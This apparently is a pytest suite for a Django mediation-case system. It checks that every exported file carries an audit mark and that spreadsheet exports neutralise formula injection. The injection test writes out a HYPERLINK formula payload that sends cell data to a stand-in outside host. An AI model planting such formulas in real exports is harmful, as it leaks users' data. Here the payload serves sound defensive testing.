"""Everything that leaves as a file says who took it, when, and under which entry of the log; the entry is there.

The addresses come from Django and the operations from the API's schema: a new export without its mark fails here.
"""

import io
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import product
from typing import Any

import docx
import pytest
from django.test import Client
from django.urls import NoReverseMatch, URLPattern, URLResolver, get_resolver, reverse
from pypdf import PdfReader
from python_calamine import CalamineWorkbook

from fengqiao.audit.exports import entry_number
from fengqiao.audit.models import Entry
from fengqiao.documents.papers import KINDS
from fengqiao.documents.tables import Sheet, write_table
from fengqiao.mediation.actions.intake import give_code
from fengqiao.mediation.models import Attachment, Party

EXPORT_VERBS = {
    "export_register", "export_case_allowance", "print_dossier", "print_paper", "print_own_copy", "take_scan",
    "take_own_data",
}  # fmt: skip
# Nothing of anybody is in them: empty forms, the map of the villages, the pages' own assets.
NOBODYS = {"web:blank-form", "web:villages-map"}
# Doors: who goes through one comes back as nobody, and the walk would be over.
ENDS_THE_VISIT = re.compile(
    "sign|leave|phone|account|session|factor|passw|recover|^web:(report|enter-case|language)"
)
NOT_FILES = ("text/html", "application/json", "text/plain")
WORDS = {"reason": "to be sent to the office", "idempotency_key": "walked-once-0001", "quarter": "2026-4"}
KNOWN_EXPORTS = {
    "web:register-export", "web:justice-export", "web:dossier", "web:paper", "web:attachment", "web:my-paper",
    "web:my-dossier", "api:dossier",
}  # fmt: skip


@dataclass
class Left:
    """A file that left: by which address, and what is to be read on it."""

    name: str
    kind: str
    said: list[str]
    problems: list[str] = field(default_factory=list)


def patterns(resolver: Any, prefix: str = "") -> Iterator[tuple[str, URLPattern]]:
    """Every address with its full name."""
    for one in resolver.url_patterns:
        if isinstance(one, URLResolver):
            yield from patterns(one, f"{one.namespace}:" if one.namespace else prefix)
        else:
            yield f"{prefix}{one.name or one.callback.__name__}", one


def places_said(content: bytes, kind: str, disposition: str) -> list[str]:
    """What every page, tab or the name of the file says."""
    if kind == "application/pdf" and "scan" not in disposition:
        return [page.extract_text() for page in PdfReader(io.BytesIO(content)).pages]
    if "wordprocessing" in kind:
        return [section.footer.paragraphs[0].text for section in docx.Document(io.BytesIO(content)).sections]
    if kind == "application/zip":
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return [
                archive.read(name).decode()
                for name in archive.namelist()
                if name.endswith((".json", ".html"))
            ]
    if "spreadsheet" in kind:
        book = CalamineWorkbook.from_filelike(io.BytesIO(content))
        return [
            " ".join(str(cell) for row in book.get_sheet_by_name(name).to_python() for cell in row)
            for name in book.sheet_names
        ]
    return [disposition]


def check(left: Left, who: str) -> list[str]:
    """What is wrong with a file that left."""
    wrong = []
    for said in left.said:
        squeezed = "".join(said.split())
        found = re.search(r"E\d{8}", squeezed)
        if found is None:
            return [f"{left.name}: no export id on a page of {left.kind}: {squeezed[-90:]!r}"]
        entry = Entry.objects.filter(number=entry_number(found[0])).first()
        if entry is None or entry.verb not in EXPORT_VERBS or '"rows":' not in entry.details:
            wrong.append(f"{left.name}: {found[0]} is no entry of an export")
        elif left.name != "web:attachment":
            day = re.search(r"\d{4}-\d\d-\d\d\d\d:\d\d", squeezed)
            wrong += [] if day else [f"{left.name}: says no moment"]
            wrong += [] if "".join(who.split()) in squeezed else [f"{left.name}: does not say {who}"]
    return wrong


@pytest.fixture
def case(walk_to: Any) -> Any:
    """A case that has every kind of paper, sealed scan included."""
    return walk_to("in_force", 1)


@pytest.fixture
def arguments(case: Any) -> dict[str, list[Any]]:
    """What the addresses' placeholders may stand for."""
    scan = Attachment.objects.filter(dispute__number=case.number)[0]
    return {
        "number": [case.number],
        "attachment": [scan.id],
        "kind": ["agreement", "receipt"],
    }


def walked(client: Client, arguments: dict[str, list[Any]]) -> Iterator[Left]:
    """Every file that this browser gets from any address, by GET and by POST."""
    for name, pattern in patterns(get_resolver()):
        if (
            name in NOBODYS
            or ENDS_THE_VISIT.search(name)
            or pattern.callback.__module__.startswith("django.")
        ):
            continue
        wanted = pattern.pattern.converters
        if not set(wanted) <= set(arguments):
            assert not re.search("export|paper|dossier|print|download|file", name), f"{name}: walk it"
            continue
        for url in urls_of(name, wanted, arguments):
            for answer in (
                client.get(url, WORDS),
                client.post(f"{url}?as=word", WORDS),
                client.post(url, WORDS),
            ):
                kind = answer.headers.get("Content-Type", "").split(";")[0]
                if answer.status_code != 200 or kind in NOT_FILES:
                    continue
                shown = answer.headers.get("Content-Disposition", "")
                content = b"".join(answer.streaming_content) if answer.streaming else answer.content
                yield Left(
                    name, kind, places_said(content, kind, "scan " * (name == "web:attachment") + shown)
                )


def urls_of(name: str, wanted: Any, arguments: dict[str, list[Any]]) -> list[str]:
    """The address with every value of its placeholders."""
    found = []
    for values in product(*(arguments[one] for one in wanted)):
        try:
            found.append(reverse(name, kwargs=dict(zip(wanted, values, strict=True))))
        except NoReverseMatch:
            continue
    return found


def test_every_file_the_staff_take_along_carries_its_mark(
    at_desk: Any, arguments: dict[str, list[Any]], cast: Any
) -> None:
    left: list[Left] = []
    wrong: list[str] = []
    for role in ("chief", "justice"):
        desk = at_desk(role)
        found = list(walked(desk, arguments))
        left += found
        wrong += [problem for one in found for problem in check(one, desk.user.name)]
    assert wrong == []
    mine = {name for name in KNOWN_EXPORTS if ":my-" not in name and not name.startswith("api:")}
    assert mine - {"web:attachment"} <= {one.name for one in left}
    assert any("wordprocessing" in one.kind for one in left), "Word too"


def test_every_file_a_party_takes_along_carries_its_mark(case: Any, arguments: dict[str, list[Any]]) -> None:
    party = Party.objects.filter(dispute__number=case.number, side="A")[0]
    code = give_code(party)
    party.save()
    home = Client()
    home.post("/case/", {"code": code, "last": party.phone[-4:]})
    left = list(walked(home, arguments))
    assert [problem for one in left for problem in check(one, "甲方")] == []
    assert {"web:my-paper", "web:my-dossier"} <= {one.name for one in left}
    assert not {"web:dossier", "web:paper", "web:attachment", "web:register-export"} & {
        one.name for one in left
    }


def test_every_file_of_the_api_carries_its_mark(api: Any, case: Any, cast: Any) -> None:
    schema = api.get("/openapi.json").body
    files = [
        path
        for path, operations in schema["paths"].items()
        for one in operations.values()
        if set(one["responses"].get("200", one["responses"].get(200, {})).get("content", {}))
        - {"application/json"}
    ]
    assert files == ["/api/v1/disputes/{number}/dossier.pdf"], "a new one is walked here"
    for key, who in ((cast.officer.key, cast.officer.name), (case.side("A"), "甲方")):
        answer = api.get(f"/disputes/{case.number}/dossier.pdf", key, reason="to be sent on")
        assert answer.status == 200
        left = Left("api:dossier", "application/pdf", places_said(answer.raw, "application/pdf", ""))
        assert check(left, who) == []


def test_the_check_of_this_file_can_fail(station: str) -> None:
    assert check(Left("x", "application/pdf", ["an unmarked page"]), "somebody") != []
    assert check(Left("x", "application/pdf", ["E99999999 2026-01-01 10:00 somebody"]), "somebody") != []


def test_blank_forms_are_nobodys(station: str) -> None:
    assert Client().get(f"/forms/{next(iter(KINDS))}.pdf").status_code == 200


@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u3000="]
)
def test_what_a_spreadsheet_might_run_is_only_text_in_the_register(
    at_desk: Any, report: Any, start: str
) -> None:
    evil = f'{start}HYPERLINK("http://elsewhere/"&A1,"水渠")'
    report(summary=evil)
    content = at_desk("officer").send("/disputes/export/").content
    book = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    found = [cell for row in book for cell in row if "HYPERLINK" in str(cell)]
    assert found and all(str(cell).startswith("'") for cell in found)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_numbers_stay_numbers_and_only_texts_are_held_down() -> None:
    content = write_table([Sheet("x", ("a", "b", "c"), ((-5, 3.5, "-5"),))], watermark="w")
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    assert rows[1] == [-5.0, 3.5, "'-5"]
